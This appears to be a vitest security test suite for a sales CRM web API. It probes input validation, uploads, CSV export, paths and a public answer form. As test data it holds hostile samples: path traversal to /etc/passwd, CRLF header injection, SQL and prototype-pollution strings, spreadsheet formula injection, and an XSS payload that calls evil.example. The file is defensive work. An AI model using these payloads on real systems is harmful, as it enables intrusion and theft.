import { randomUUID } from "node:crypto";
import { request } from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createSignedInRoutes } from "./router.ts";
import { sender } from "./signed-in-people.fixture.ts";
import { makeSignedInTeam, type SignedInTeam } from "./two-teams.fixture.ts";
import { startWebProgram } from "./web-program.fixture.ts";

let program: Awaited<ReturnType<typeof startWebProgram>>;
let send: ReturnType<typeof sender>;
let team: SignedInTeam;
let admin: Record<string, string>;

beforeAll(async () => {
  program = await startWebProgram();
  send = sender(program);
  team = await makeSignedInTeam(program, "Acme");
  admin = team.people.admin.asker;
});
afterAll(() => program.stop());

/** Sends a body just as it is, or a path as no well-behaved client would write it. */
function raw(method: string, path: string, body: Buffer | string = "", headers: Record<string, string> = {}) {
  return new Promise<{ status: number; text: string }>((resolve, reject) => {
    const { hostname, port } = new URL(program.url);
    const sent = request({ hostname, port, method, path, headers: { ...admin, ...headers } }, (answer) => {
      const pieces: Buffer[] = [];
      answer.on("data", (piece) => pieces.push(piece));
      answer.on("end", () => resolve({ status: answer.statusCode ?? 0, text: Buffer.concat(pieces).toString() }));
    });
    sent.on("error", reject);
    sent.end(body);
  });
}
const json = { "content-type": "application/json" };

/** Nothing of how the program is made belongs into an answer. */
const innards =
  /node_modules|\.ts:\d|\.js:\d|\bat \w+ \(|select .+ from|insert into|violates|constraint|SQLSTATE|kysely/i;

async function refused(method: string, path: string, body: unknown) {
  const answer = await send(method, path, body, admin);
  const what = `${method} ${path} ${JSON.stringify(body)?.slice(0, 300)} → ${JSON.stringify(answer.told)}`;
  expect.soft(answer.status, what).toBeGreaterThanOrEqual(400);
  expect.soft(answer.status, what).toBeLessThan(500);
  expect.soft(JSON.stringify(answer.told), what).not.toMatch(innards);
  expect.soft(answer.headers.get("content-type"), what).toContain("application/problem+json");
  return answer;
}

const dealBody = () => team.dealOf(team.people.rob.id, "A deal");
const activity = { kind: "call", direction: "outgoing", answered: true, contactId: null };
const answersWith = (part: object) => ({
  ...{ lossKind: null, reasons: [], missedStepIds: [], cleanLoss: false, ownPart: "", turningPointAt: null },
  ...{ turningPointNote: "", whatWorked: "", doDifferently: "", commitments: [], checkUpOn: null, ...part },
});

describe("text", () => {
  const bad = [
    ["a zero byte", "Ac\0me"],
    ["the first half of a character", "Acme \uD83D"],
    ["the second half of a character", "\uDE00 Acme"],
  ] as const;

  it.each(bad)("with %s is refused wherever it stands, in words", async (_what, text) => {
    const { rob } = team.deals;
    const answers = [
      await refused("PUT", `/api/deals/${randomUUID()}`, { ...dealBody(), name: text }),
      await refused("PUT", `/api/deals/${randomUUID()}`, { ...dealBody(), accountName: text }),
      await refused("PATCH", "/api/workspace", { name: text }),
      await refused("PUT", `/api/deals/${rob.lost}/debrief`, {
        ...{ debriefId: randomUUID(), version: 0, answers: answersWith({ whatWorked: text }) },
      }),
      await refused("POST", `/api/imports/${team.importId}/preview`, {
        columns: [{ column: 0, heading: text, target: "attribute" }],
      }),
      await refused("POST", "/api/first-run", {
        ...{ name: text, email: "eve@example.com", password: "a fine long one", workspaceName: "x" },
        ...{ timeZone: "Europe/Berlin", currency: "EUR" },
      }),
      await refused("GET", `/api/deals?search=${encodeURIComponent("a\0b")}`, undefined),
    ];
    for (const { told } of answers) expect(told.detail).toMatch(/character that cannot be kept/);
    await refused("POST", "/api/auth/sign-in/email", { email: `a${text}@b.example`, password: text });
  });

  it("in any script, with emoji and right-to-left marks, comes back as it went", async () => {
    const id = randomUUID();
    const name = "Ünïcödé 株式会社 \u202Eשלום 👩‍👩‍👧 e\u0301";
    const saved = await send("PUT", `/api/deals/${id}`, { ...dealBody(), name }, admin);
    expect(saved.told.name).toBe(name);
    expect(
      (await send("GET", `/api/deals?search=${encodeURIComponent("株式会社")}`, undefined, admin)).told.rows,
    ).toHaveLength(1);
  });

  it("has an end", async () => {
    const long = "x".repeat(100_000);
    await refused("PUT", `/api/deals/${randomUUID()}`, { ...dealBody(), name: long });
    await refused("GET", `/api/deals?search=${"x".repeat(5_000)}`, undefined);
    await refused("GET", `/api/deals?after=${"x".repeat(5_000)}`, undefined);
  });
});

describe("numbers and days", () => {
  it("beyond what can be kept are refused", async () => {
    for (const amountCents of [1e16, 2 ** 63, 1e308, -1, 0.5])
      await refused("PUT", `/api/deals/${randomUUID()}`, { ...dealBody(), amountCents });
    for (const offeredTermMonths of [0, 241, 2_147_483_648, 1.5])
      await refused("PUT", `/api/deals/${randomUUID()}`, { ...dealBody(), offeredTermMonths });
    const repair = { name: "Call", openingLine: "", flagIds: [] };
    await refused("PUT", `/api/repairs/${randomUUID()}`, { ...repair, dueInDays: 2_147_483_648 });
    const draft = { debriefId: randomUUID(), version: 2_147_483_648, answers: answersWith({}) };
    await refused("PUT", `/api/deals/${team.deals.olga.lost}/debrief`, draft);
    const record = { ...draft, version: 0, secondsSpent: 1e10 };
    await refused("POST", `/api/deals/${team.deals.olga.lost}/debrief/record`, record);
    for (const limit of ["0", "201", "-1", "1e9", "NaN", "Infinity"])
      await refused("GET", `/api/deals?limit=${limit}`, undefined);
  });

  it("that nobody can mean are refused", async () => {
    const { rob } = team.deals;
    for (const day of ["0000-01-01", "0001-01-01", "0202-03-01", "9999-12-31", "-infinity", "2026-02-30", "tomorrow"]) {
      await refused("PUT", `/api/deals/${randomUUID()}`, { ...dealBody(), expectedCloseOn: day });
      await refused("PUT", `/api/deals/${randomUUID()}`, { ...dealBody(), pitchedOn: day });
      await refused("PUT", `/api/check-ups/${randomUUID()}`, { dealId: rob.lost, dueOn: day });
      await refused("PUT", `/api/deals/${rob.open}/snoozes/${randomUUID()}`, { reason: "Rest", untilOn: day });
      await refused("GET", `/api/check-ups?dueBy=${day}`, undefined);
      const draft = { debriefId: randomUUID(), version: 0, answers: answersWith({ checkUpOn: day }) };
      await refused("PUT", `/api/deals/${rob.lost}/debrief`, draft);
      await refused("POST", `/api/imports/${team.importId}/preview`, { exportedOn: day });
    }
    for (const at of ["0000-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "infinity", "2026-01-01T00:00:00"]) {
      await refused("PUT", `/api/deals/${rob.open}/activities/${randomUUID()}`, { ...activity, happenedAt: at });
      await refused("POST", `/api/deals/${rob.open}/stage`, { stageId: team.catalogue.stageId, enteredAt: at });
      await refused("POST", `/api/deals/${rob.open}/close`, { outcome: "won", closedAt: at });
    }
  });

  it("at the edge of what can be kept do not break what adds them up", async () => {
    for (let deals = 0; deals < 12; deals += 1) {
      const id = randomUUID();
      const huge = { ...dealBody(), ownerId: team.people.olga.id, amountCents: 1e15 };
      expect((await send("PUT", `/api/deals/${id}`, huge, admin)).status).toBe(200);
      await program.pool.query(
        `insert into flag_readings (workspace_id, deal_id, flag_id, kind, level, since, evidence, read_at)
         values ($1, $2, $3, 'up', 'bad', now(), '"seen"', now())`,
        [team.workspace, id, team.catalogue.flagId],
      );
    }
    const costly = (await send("GET", "/api/red-flags", undefined, admin)).told.rows[0];
    const watched = await send(
      "PUT",
      `/api/red-flags/${costly.id}`,
      { ...costly, key: undefined, costly: true },
      admin,
    );
    expect(watched.status).toBe(200);
    for (const path of ["/api/today", "/api/pipeline-check", "/api/deals"])
      expect((await send("GET", path, undefined, admin)).status, path).toBe(200);
  });
});

describe("bodies", () => {
  const path = () => `/api/deals/${randomUUID()}`;

  it("that are no JSON, or JSON of another shape, are refused", async () => {
    const bodies = ["", "{", "nul", "[]", '"text"', "12", "null", '{"name":', "\uFEFF{}", "a=b&c=d"];
    for (const body of bodies) {
      const { status, text } = await raw("PUT", path(), body, json);
      expect.soft(status, JSON.stringify(body)).toBe(400);
      expect.soft(text).not.toMatch(innards);
    }
    const invalid = Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xff, 0xfe, 0xc3, 0x28]), Buffer.from('"}')]);
    expect((await raw("PATCH", "/api/workspace", invalid, json)).status).toBeLessThan(500);
    for (const type of [
      "text/plain",
      "application/xml",
      "multipart/form-data; boundary=x",
      "application/octet-stream",
      "",
    ]) {
      const { status, text } = await raw("PUT", path(), JSON.stringify(dealBody()), { "content-type": type });
      expect.soft([200, 400, 415], `${type}: ${text}`).toContain(status);
    }
  });

  it("as deep as they like bring nothing down", async () => {
    const deep = `${"[".repeat(200_000)}${"]".repeat(200_000)}`;
    const deepObjects = `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`;
    for (const body of [deep, deepObjects, `{"name":${deep}}`]) {
      const { status, text } = await raw("PUT", path(), body, json);
      expect.soft(status, text.slice(0, 200)).toBe(400);
      const rpc = await raw("POST", "/api/rpc/team/updateWorkspace", `{"json":${body}}`, json);
      expect.soft(rpc.status, rpc.text.slice(0, 200)).toBe(400);
    }
    const query = `/api/deals?${"a[b]".repeat(2_000)}=1`;
    expect((await raw("GET", query)).status).toBeLessThan(500);
    expect((await raw("GET", "/api/health")).status).toBe(200);
  });

  it("cannot smuggle anything past their shape", async () => {
    await refused("PATCH", "/api/workspace", { isDemo: true });
    await refused("PUT", path(), { ...dealBody(), workspaceId: randomUUID() });
    for (const key of ["__proto__", "constructor", "prototype"]) {
      const { status } = await raw("PATCH", "/api/workspace", `{"${key}":{"isOwner":true},"name":"Acme"}`, json);
      expect([200, 400]).toContain(status);
    }
    expect(Reflect.get({}, "isOwner")).toBeUndefined();
    const meta = { json: { name: "Acme" }, meta: [[0, "__proto__", "isOwner"]], maps: [["__proto__"]] };
    expect((await send("POST", "/api/rpc/team/updateWorkspace", meta, admin)).status).toBeLessThan(500);
    expect(Reflect.get({}, "isOwner")).toBeUndefined();
    // The path says which deal; a body that says another has no say.
    const [named, other] = [team.deals.rob.open, team.deals.olga.open];
    const moved = await send("POST", `/api/deals/${named}/wake`, { id: other }, admin);
    expect(moved.status === 400 || moved.told.id === named).toBe(true);
  });

  it("that go on for ever are cut off", async () => {
    const large = "x".repeat(2_200_000);
    for (const where of ["/api/auth/sign-in/email", "/api/first-run", "/api/rpc/team/updateWorkspace"]) {
      const whole = await raw("POST", where, JSON.stringify({ email: large }), json).catch(() => ({ status: 413 }));
      expect(whole.status, where).toBe(413);
      const chunked = await fetch(`${program.url}${where}`, {
        method: "POST",
        headers: json,
        body: new Blob([large]).stream(),
        duplex: "half",
      } as RequestInit).catch(() => ({ status: 413 }));
      expect(chunked.status, where).toBe(413);
    }
  });
});

describe("places in lists", () => {
  const place = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");
  const id = randomUUID();
  const tampered = [
    ...["", "!", "AAAA", "null", place(null), place([]), place({}), place("x")],
    ...[9e15, -9e15, 1e300, 1.5, "2026-01-01", null].map((newestAt) => place({ newestAt, id })),
    ...[1e300, -1, 1.5, 2 ** 60].map((number) => place({ id: number, position: number })),
    ...["0000-01-01T00:00:00Z", "9999-99-99", "infinity"].flatMap((at) => [
      ...[
        place({ at, id }),
        place({ madeAt: at, id }),
        place({ dueOn: at.slice(0, 10), id }),
        place({ newestAt: at, id }),
      ],
      place({ recordedAt: at, debriefId: id, reasonId: id }),
    ]),
    ...[place({ name: "\0", id }), place({ name: "a", id: "'; drop table members; --" })],
    ...[place({ amountCents: 1e300, id }), place({ amountCents: 2 ** 60, id }), place({ happenedAt: 9e15, id })],
  ];

  it("at an instant that is no date are not known, and the database is not asked for one", async () => {
    const activities = `/deals/${team.deals.rob.open}/activities`;
    for (const at of [9e15, -9e15, 8.64e15, Number.MAX_SAFE_INTEGER]) {
      const asked = [
        `/deals?after=${place({ newestAt: at, id })}`,
        `${activities}?after=${place({ happenedAt: at, id })}`,
      ];
      for (const path of asked) expect((await send("GET", `/api${path}`, undefined, admin)).status, path).toBe(404);
    }
  });

  it("that we did not write lead nowhere, and break nothing", async () => {
    const lists = [
      ...[
        "/members",
        "/audit",
        "/deals",
        "/imports",
        "/check-ups",
        "/commitments",
        "/repair-tasks",
        "/debriefs/waiting",
      ],
      ...["/product-limits", `/deals/${team.deals.rob.open}/activities`, `/imports/${team.importId}/refusals`],
      `/pipeline-check/${team.catalogue.flagId}/deals?kind=up`,
    ];
    for (const list of lists) {
      const answers = await Promise.all(
        tampered.map((after) =>
          send(
            "GET",
            `/api${list}${list.includes("?") ? "&" : "?"}after=${encodeURIComponent(after)}`,
            undefined,
            admin,
          ),
        ),
      );
      for (const [tried, { status, told }] of answers.entries()) {
        const what = `${list} ${Buffer.from(tampered[tried] ?? "", "base64url")}: ${JSON.stringify(told)}`;
        expect.soft([200, 400, 404], what).toContain(status);
        expect.soft(JSON.stringify(told)).not.toMatch(innards);
      }
    }
  });
});

describe("a write under an id that is taken", () => {
  it("with other content is the first one still, or told that it is not", async () => {
    const { rob, olga } = team.deals;
    const id = randomUUID();
    const log = (deal: string, subject: string) =>
      send(
        "PUT",
        `/api/deals/${deal}/activities/${id}`,
        { ...activity, happenedAt: "2026-01-05T10:00:00Z", subject },
        admin,
      );
    expect((await log(rob.open, "First")).told.subject).toBe("First");
    expect((await log(rob.open, "Second")).told.subject).toBe("First");
    expect((await log(olga.open, "Third")).status).toBe(409);
    expect((await send("GET", `/api/deals/${olga.open}/activities`, undefined, admin)).told.rows).toEqual([]);

    const snoozeId = randomUUID();
    const rest = (deal: string, untilOn: string) =>
      send("PUT", `/api/deals/${deal}/snoozes/${snoozeId}`, { reason: "Holiday", untilOn }, admin);
    expect((await rest(rob.open, "2099-01-04")).told.snoozedUntil).toBe("2099-01-04");
    expect((await rest(rob.open, "2099-05-05")).told.snoozedUntil).toBe("2099-01-04");
    expect((await rest(olga.open, "2099-01-04")).status).toBe(409);

    const answerId = randomUUID();
    const answer = (deal: string, text: string) =>
      send(
        "PUT",
        `/api/deals/${deal}/step-answers/${answerId}`,
        {
          ...{ stepId: team.catalogue.stepId, done: true, answer: text, happenedAt: "2026-01-05T10:00:00Z" },
        },
        admin,
      );
    expect((await answer(rob.open, "First")).told.answer).toBe("First");
    expect((await answer(rob.open, "Second")).told.answer).toBe("First");
    expect((await answer(olga.open, "Third")).status).toBe(409);
  });

  it("is never another kind of thing, or another's", async () => {
    const { rob, olga } = team.deals;
    const { flagId, repairId } = team.catalogue;
    // One id for things of every kind: each kind has its own.
    const id = rob.open;
    const ok = async (method: string, path: string, body: unknown) =>
      expect.soft((await send(method, path, body, admin)).status, `${method} ${path}`).toBe(200);
    await ok("PUT", `/api/deals/${rob.open}/contacts/${id}`, {
      ...{ name: "Dora", email: null, phone: null, jobTitle: null, role: "unknown" },
    });
    await ok("PUT", `/api/deals/${rob.open}/activities/${id}`, { ...activity, happenedAt: "2026-01-05T10:00:00Z" });
    await ok("PUT", `/api/commitments/${id}`, { dealId: null, flagId, repairId, wording: "Mine" });
    // A colleague's contact, call, task, promise or key is not taken over through its id.
    const rob_ = team.people.rob.asker;
    const contact = { name: "Mine", email: null, phone: null, jobTitle: null, role: "unknown" };
    const tries = [
      await send("PUT", `/api/deals/${rob.open}/contacts/${olga.contactId}`, contact, rob_),
      await send("PUT", `/api/check-ups/${olga.checkUpId}`, { dealId: rob.lost, dueOn: "2099-01-05" }, rob_),
      await send(
        "PUT",
        `/api/repair-tasks/${olga.taskId}`,
        { dealId: rob.open, flagId, repairId, commitmentId: null },
        rob_,
      ),
      await send(
        "PUT",
        `/api/commitments/${team.commitments.olga}`,
        { dealId: null, flagId, repairId, wording: "Mine" },
        rob_,
      ),
      await send("PUT", `/api/deals/${olga.open}`, { ...dealBody(), ownerId: team.people.rob.id }, rob_),
    ];
    expect(tries.map(({ status }) => status)).toEqual([404, 404, 404, 404, 404]);
    expect((await send("PUT", `/api/api-keys/${team.keys.olga}`, { name: "Mine" }, rob_)).status).toBe(409);
    const promise = { id: team.commitments.olga, flagId, repairId, wording: "Mine" };
    const record = {
      debriefId: randomUUID(),
      version: 0,
      secondsSpent: 9,
      answers: answersWith({ cleanLoss: true, commitments: [promise] }),
    };
    const recorded = await send("POST", `/api/deals/${rob.lost}/debrief/record`, record, rob_);
    expect(recorded.status).toBe(409);
    expect((await send("GET", `/api/deals/${rob.lost}/debriefs`, undefined, rob_)).told.rows).toEqual([]);
  });

  it("sent by many at once is written once", async () => {
    const id = randomUUID();
    const body = dealBody();
    const answers = await Promise.all(Array.from({ length: 8 }, () => send("PUT", `/api/deals/${id}`, body, admin)));
    expect(answers.map(({ status }) => status).filter((status) => status !== 200 && status !== 409)).toEqual([]);
    const stages = await program.pool.query("select count(*) as n from stage_changes where deal_id = $1", [id]);
    expect(stages.rows[0].n).toBe(1);
    const [flag] = (await send("GET", "/api/red-flags", undefined, admin)).told.rows;
    const shaped = { name: flag.name, thresholds: flag.thresholds, stepId: null, costly: true };
    const pipelineId = randomUUID();
    const stage = (name: string, type: string) => ({ id: randomUUID(), name, type });
    const pipeline = { name: "Twice", stages: [stage("Talk", "open"), stage("Won", "won"), stage("Lost", "lost")] };
    const memberId = randomUUID();
    const member = { name: "Nia", email: "nia@acme.example", role: "rep", managerId: null };
    const many = await Promise.all(
      Array.from({ length: 5 }).flatMap(() => [
        send("PUT", `/api/red-flags/${flag.id}`, shaped, admin),
        send("PUT", `/api/pipelines/${pipelineId}`, pipeline, admin),
        send("PUT", `/api/members/${memberId}`, member, admin),
        send("PUT", `/api/members/${randomUUID()}`, { ...member, name: "Other" }, admin),
        send(
          "POST",
          `/api/members/${memberId}/sign-in`,
          { email: "nia@acme.example", password: "a fine long one" },
          admin,
        ),
      ]),
    );
    for (const { status, told } of many) expect.soft([200, 404, 409], JSON.stringify(told)).toContain(status);
  });
});

describe("ids that lead nowhere", () => {
  it("are refused and not tried on the database", async () => {
    const nobody = randomUUID();
    const { catalogue, people } = team;
    await refused("PUT", `/api/red-flags/${randomUUID()}`, {
      ...{ name: "Gone", thresholds: { kind: "step-missed" }, stepId: nobody, costly: false, archived: true },
    });
    await refused("PUT", `/api/members/${people.rob.id}`, {
      ...{ name: "Rob", email: people.rob.email, role: "rep", managerId: people.rob.id },
    });
    const twice = { id: randomUUID(), name: "Talk", type: "open" };
    await refused("PUT", `/api/pipelines/${randomUUID()}`, {
      name: "Same stage twice",
      stages: [
        twice,
        { ...twice, name: "Talk more" },
        { id: randomUUID(), name: "Won", type: "won" },
        { id: randomUUID(), name: "Lost", type: "lost" },
      ],
    });
    const deadline = { pipelineId: catalogue.pipelineId, beforeStageId: catalogue.stageId };
    const step = { name: "Asked", question: "Who?", deadlines: [deadline, deadline] };
    expect((await send("PUT", `/api/sales-steps/${randomUUID()}`, step, admin)).status).toBeLessThan(500);
    const repair = { name: "Call", openingLine: "", dueInDays: 1, flagIds: [catalogue.flagId, catalogue.flagId] };
    expect((await send("PUT", `/api/repairs/${randomUUID()}`, repair, admin)).status).toBe(200);
    await refused("POST", `/api/step-templates/${encodeURIComponent("no such set")}/apply`, {});
    for (const id of ["1", "x", "00000000-0000-0000-0000-00000000000g", "%00", "..%2f..", "null"]) {
      await refused("GET", `/api/deals/${id}`, undefined);
      await refused("GET", `/api/imports/${id}/refusals.csv`, undefined);
    }
  });
});

describe("uploads and files", () => {
  const put = (path: string, body: string, headers: Record<string, string> = {}) => raw("PUT", path, body, headers);

  it("need a plain name and a known kind", async () => {
    const at = () => `/api/imports/${randomUUID()}/file`;
    for (const query of [
      "",
      "?name=",
      "?name=%20",
      `?name=${"x".repeat(301)}`,
      "?name=a.csv&kind=secrets",
      "?name=a%00.csv",
      "?name=%ff%fe",
    ]) {
      const { status, text } = await put(`${at()}${query}`, "a,b\n1,2\n");
      expect.soft([200, 400], `${query}: ${text}`).toContain(status);
      expect.soft(text).not.toMatch(innards);
    }
    const tooLarge = await put(`${at()}?name=a.csv`, "", { "content-length": String(3 * 1024 ** 3) }).catch(() => ({
      status: 413,
    }));
    expect(tooLarge.status).toBe(413);
  });

  it("sent twice at once under one id never become a mixture", async () => {
    const id = randomUUID();
    const file = (letter: string) => `Deal name,Stage\n${`${letter.repeat(98)},A\n`.repeat(40_000)}`;
    const answers = await Promise.all(
      ["a", "b", "a", "b"].map((letter) => put(`/api/imports/${id}/file?name=a.csv`, file(letter))),
    );
    for (const { status, text } of answers) expect.soft([200, 409], text.slice(0, 300)).toContain(status);
    // Begun later, shorter and at another instant, it is the one that counts.
    const begunAt = async () => {
      const { rows } = await program.pool.query("select created_at from imports where id = $1", [id]);
      return rows[0].created_at.getTime();
    };
    const before = await begunAt();
    const slow = put(`/api/imports/${id}/file?name=a.csv`, file("a"));
    await expect.poll(begunAt, { interval: 2, timeout: 20_000 }).toBeGreaterThan(before);
    const quick = await put(`/api/imports/${id}/file?name=b.csv`, "Deal name,Stage\nB,Proposal\n");
    expect([200, 409]).toContain((await slow).status);
    expect([quick.status, JSON.parse(quick.text).fileName]).toEqual([200, "b.csv"]);
    const { rows } = await program.pool.query(
      `select i.byte_count as bytes, (select sum(length(bytes)) from import_pieces p where p.import_id = i.id) as kept,
        (select string_agg(encode(bytes, 'escape'), '' order by position) from import_pieces p where p.import_id = i.id) as text
       from imports i where i.id = $1`,
      [id],
    );
    expect(rows).toHaveLength(1);
    expect(Number(rows[0].kept)).toBe(rows[0].bytes);
    expect(rows[0].text).toBe("Deal name,Stage\nB,Proposal\n");
  });

  it("keep a file's name out of headers and other folders", async () => {
    const id = randomUUID();
    const name = 'a".csv\r\nSet-Cookie: comeback=evil; x="../../../etc/passwd';
    const { status } = await put(`/api/imports/${id}/file?name=${encodeURIComponent(name)}`, "Deal name\nOne\n");
    expect(status).toBe(200);
    const file = await program.ask("GET", `/api/imports/${id}/refusals.csv`, undefined, admin);
    expect(file.headers.get("content-disposition")).toBe(`attachment; filename="refused-rows-${id}.csv"`);
    expect(file.headers.get("set-cookie")).toBeNull();
    const all = await program.ask("GET", "/api/exports/deals.csv", undefined, admin);
    expect(all.headers.get("content-disposition")).toMatch(
      /^attachment; filename="[a-z0-9-]*deals-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(all.headers.get("x-content-type-options")).toBe("nosniff");
    expect(all.headers.get("cache-control")).toBe("private, no-store");
  });

  it("hand out no formula, in names or in headings", async () => {
    const formulas = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", '=HYPERLINK("http://evil.example")'];
    for (const formula of formulas) {
      const body = {
        ...dealBody(),
        name: `${formula}.`,
        accountName: formula,
        competitor: formula,
        leadSource: formula,
      };
      expect((await send("PUT", `/api/deals/${randomUUID()}`, body, admin)).status).toBe(200);
    }
    await program.pool.query("update deals set attributes = $1 where workspace_id = $2", [
      JSON.stringify({ "=cmd()": "=1+1" }),
      team.workspace,
    ]);
    const text = await (await program.ask("GET", "/api/exports/deals.csv", undefined, admin)).text();
    // Every cell of every line, quoted or not, begins with nothing that a spreadsheet would run.
    const cells = [...text.matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^",\r\n]*)/g)].map(([, cell = ""]) =>
      cell.startsWith('"') ? cell.slice(1) : cell,
    );
    expect(cells.length).toBeGreaterThan(50);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});

describe("paths", () => {
  it("lead to no file but the web program's own", async () => {
    const tries = [
      ...["/../package.json", "/..%2fpackage.json", "/%2e%2e/%2e%2e/package.json", "/..%5c..%5cpackage.json"],
      ...[
        "//etc/passwd",
        "/assets/..%2f..%2f..%2f..%2fetc/passwd",
        "/%00",
        "/a%00.js",
        "/%E0%A4%A",
        "/%",
        "/assets/%zz.js",
      ],
    ];
    for (const path of tries) {
      const { status, text } = await raw("GET", path);
      expect.soft(status, path).toBeLessThan(500);
      expect.soft(text, path).not.toMatch(/"dependencies"|root:/);
    }
  });

  it("of plain routes take nobody past the gate, however they are written", async () => {
    const routes = createSignedInRoutes(program).routes;
    expect(routes.length).toBeGreaterThan(2);
    for (const { method, path } of routes) {
      const filled = path.replace(":id", team.importId);
      for (const written of [
        filled,
        `${filled}/`,
        `/${filled}`,
        filled.toUpperCase(),
        `${filled}?x=1`,
        `${filled}%2f`,
      ]) {
        const { status } = await raw(method, `/api${written}`, "", { cookie: "" });
        expect.soft([401, 404], `${method} ${written}`).toContain(status);
      }
    }
  });
});

describe("a customer's form", () => {
  const said = {
    ...{ winnerBetter: "", compared: "", leastUnderstood: "", winAgain: null, winAgainNote: "", whoDecided: "" },
    ...{ quote: "", quoteConsent: "no", reasons: [], priorities: [], recommendations: [] },
  };
  /** Nobody is signed in: what the form does, it does by its secret. */
  const nobody = { cookie: "" };
  const ask = (what: string, body: object) => send("POST", `/api/answer-form/${what}`, body, nobody);

  async function openLink(): Promise<string> {
    const { postMortemId, invitationId } = team.deals.rob;
    const path = `/api/post-mortems/${postMortemId}/invitations/${invitationId}/link`;
    const { told } = await send("POST", path, {}, admin);
    return String(told.url).split("#")[1] ?? "";
  }

  it("refuses answers that nobody types, and keeps those that were there", async () => {
    const secret = await openLink();
    const kept = { ...said, whoDecided: "The board" };
    expect((await ask("save", { secret, language: "en", version: 0, answers: kept })).status).toBe(200);
    const huge = "x".repeat(1024 * 1024);
    const rating = { priorityId: null, name: "Price", importance: 5, us: null, winner: null };
    const bad: object[] = [
      { winnerBetter: huge },
      { quote: "x".repeat(1_001) },
      { otherReason: huge },
      { recommendations: [{ id: randomUUID(), words: huge }] },
      { recommendations: Array.from({ length: 6 }, () => ({ id: randomUUID(), words: "x" })) },
      { recommendations: [{ id: "1; drop table deals", words: "x" }] },
      { priorities: Array.from({ length: 5_000 }, (_, at) => ({ ...rating, name: `P ${at}` })) },
      { priorities: [{ ...rating, importance: 9 }] },
      { priorities: [{ ...rating, us: "5" }] },
      { reasons: [{ reasonId: "price", note: "" }] },
      { quoteConsent: "always" },
      { winAgain: "never" },
      { whoDecided: "a\0b" },
      { whoDecided: "half \uD83D" },
      { givenAt: "2026-01-01T00:00:00Z" },
      { winnerBetter: { toString: "x" } },
    ];
    for (const part of bad) {
      for (const what of ["save", "give"]) {
        const { status, told } = await ask(what, { secret, language: "en", version: 1, answers: { ...said, ...part } });
        expect.soft(status, JSON.stringify(part).slice(0, 80)).toBe(400);
        expect.soft(JSON.stringify(told)).not.toMatch(innards);
      }
    }
    const beyond = await raw("POST", "/api/answer-form/give", JSON.stringify({ secret, answers: huge.repeat(3) }), {
      ...json,
      ...nobody,
    });
    expect(beyond.status).toBe(413);
    for (const wrong of [huge, "", 5, null, ["x"], { $ne: 1 }]) {
      const { status } = await ask("open", { secret: wrong });
      expect(status).toBe(400);
    }
    const { told } = await ask("open", { secret });
    expect(told).toMatchObject({ version: 1, answers: { whoDecided: "The board" }, givenAt: null });
  });

  it("keeps scripts as the text they are, and sends nothing that a browser would run", async () => {
    const secret = await openLink();
    const { told: before } = await ask("open", { secret });
    const script = '<script>fetch("//evil.example")</script><img src=x onerror=alert(1)>{{constructor}}';
    const answers = {
      ...said,
      winnerBetter: script,
      quote: script,
      recommendations: [{ id: randomUUID(), words: script }],
    };
    expect((await ask("give", { secret, language: "en", version: before.version, answers })).status).toBe(200);
    const opened = await ask("open", { secret });
    expect(opened.told.answers).toMatchObject({ winnerBetter: script, quote: script });
    expect(opened.headers.get("content-type")).toContain("application/json");
    expect(opened.headers.get("x-content-type-options")).toBe("nosniff");
    expect(opened.headers.get("cache-control")).toContain("no-store");
    const read = await send("GET", `/api/post-mortems/${team.deals.rob.postMortemId}`, undefined, admin);
    expect(read.told.form.answers.winnerBetter).toBe(script);
    for (const path of ["/answer", "/answer/stop/made-up"]) {
      const page = await send("GET", path, undefined, nobody);
      expect(page.headers.get("referrer-policy")).toBe("no-referrer");
      expect(page.headers.get("content-security-policy")).toMatch(/default-src 'none'; script-src 'self';/);
    }
  });

  it("ends no mails for who made the link up, however they ask", async () => {
    for (const path of [
      "/answer/stop/made-up",
      `/answer/stop/${"A".repeat(87)}`,
      "/answer/stop/%00",
      "/answer/stop/..",
    ]) {
      const { status, text } = await raw("POST", path, "List-Unsubscribe=One-Click", nobody);
      expect.soft([404, 405, 410], path).toContain(status);
      expect.soft(text).not.toMatch(innards);
    }
  });
});
